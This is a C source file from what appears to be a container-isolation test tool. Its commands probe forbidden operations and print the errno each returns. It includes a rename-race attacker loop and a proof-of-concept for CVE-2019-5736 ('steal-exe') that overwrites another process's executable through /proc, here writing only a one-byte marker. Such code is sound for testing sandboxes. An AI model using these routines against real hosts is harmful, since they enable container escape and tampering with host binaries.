/* SPDX-License-Identifier: Apache-2.0 */
/* try: commands that try something forbidden, or likely so, and print the errno's name or 0. */
#include "probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int verdict(long result)
{
	puts(errno_name(result < 0 ? errno : 0));
	return 0;
}

static int open_flags(const char *mode)
{
	static const struct {
		const char *name;
		int flags;
	} rows[] = { { "r", O_RDONLY },
		     { "w", O_WRONLY },
		     { "rw", O_RDWR },
		     { "create", O_WRONLY | O_CREAT | O_EXCL },
		     { "trunc", O_WRONLY | O_TRUNC },
		     { "dir", O_RDONLY | O_DIRECTORY } };

	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++)
		if (strcmp(rows[i].name, mode) == 0)
			return rows[i].flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY;
	fprintf(stderr, "probe: unknown mode %s\n", mode);
	exit(PROBE_USAGE);
}

static int try_open(int argc, char **argv)
{
	(void)argc;
	return verdict(open(argv[1], open_flags(argv[2]), 0600));
}

static int try_mknod(int argc, char **argv)
{
	mode_t type = *argv[2] == 'b' ? S_IFBLK : S_IFCHR;
	dev_t dev = makedev((unsigned)parse_number(argv[3]), (unsigned)parse_number(argv[4]));

	(void)argc;
	return verdict(mknod(argv[1], type | 0600, dev));
}

/* Any system call by number: what a filter answers. */
static int try_syscall(int argc, char **argv)
{
	long a[6] = { 0 };

	for (int i = 2; i < argc && i < 8; i++)
		a[i - 2] = (long)parse_number(argv[i]);
	return verdict(syscall(parse_number(argv[1]), a[0], a[1], a[2], a[3], a[4], a[5]));
}

static int try_mount(int argc, char **argv)
{
	(void)argc;
	return verdict(mount(argv[1], argv[2], argv[1], 0, NULL));
}

static int try_chown(int argc, char **argv)
{
	uid_t id = (uid_t)parse_number(argv[2]);

	(void)argc;
	return verdict(chown(argv[1], id, id));
}

/* Swaps two names until it is killed: the attacker of rename races. */
static int act_racer(int argc, char **argv)
{
	(void)argc;
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2) < 0)
			usleep(10);
	return 0;
}

/* The exe of a process that runs another program than we do; -1 when there is none. */
static int open_other_exe(pid_t *ret_pid)
{
	struct stat own, other;
	struct dirent *entry;
	DIR *proc = opendir("/proc");
	int fd = -1;

	if (!proc || stat("/proc/self/exe", &own) < 0)
		return -1;
	while (fd < 0 && (entry = readdir(proc))) {
		char path[300];

		*ret_pid = atoi(entry->d_name);
		snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
		fd = *ret_pid > 0 ? open(path, O_RDONLY | O_CLOEXEC) : -1;
		if (fd >= 0 && fstat(fd, &other) == 0 && other.st_ino == own.st_ino)
			fd = (close(fd), -1);
	}
	closedir(proc);
	return fd;
}

/*
 * CVE-2019-5736: keeps the exe of the next process, ends that, then writes to the file; with FLAG no
 * sooner than that file is there. Prints "won" or why not.
 */
static int act_steal(int argc, char **argv)
{
	char path[64];
	int exe, fd = -1;
	pid_t pid;

	while ((exe = open_other_exe(&pid)) < 0)
		usleep(1000);
	snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
	kill(pid, SIGKILL);
	while (argc > 1 && access(argv[1], F_OK) < 0)
		usleep(1000);
	for (int i = 0; i < 5000 && fd < 0; i++) {
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0 && errno != ETXTBSY)
			break;
		usleep(1000);
	}
	puts(fd >= 0 && write(fd, "#", 1) == 1 ? "won" : errno_name(errno));
	return 0;
}

/* The SELinux label of the session keyring. */
static int try_key_label(int argc, char **argv)
{
	char text[256] = "";

	(void)argc;
	(void)argv;
	if (syscall(SYS_keyctl, KEYCTL_GET_SECURITY, KEY_SPEC_SESSION_KEYRING, text, sizeof text) < 0)
		strcpy(text, errno_name(errno));
	puts(text);
	return 0;
}

const struct probe_command probe_try[] = {
	{ "try-open", try_open, 2, "PATH r|w|rw|create|trunc|dir" },
	{ "try-mknod", try_mknod, 4, "PATH b|c MAJOR MINOR" },
	{ "try-syscall", try_syscall, 1, "NUMBER [ARGUMENT...]" },
	{ "try-mount", try_mount, 2, "TYPE TARGET" },
	{ "try-chown", try_chown, 2, "PATH ID" },
	{ "key-label", try_key_label, 0, ": of the session keyring" },
	{ "racer", act_racer, 2, "PATH PATH: swaps them for ever" },
	{ "steal-exe", act_steal, 0, "[FLAG]: overwrites the program of the next process" },
	{ 0 },
};
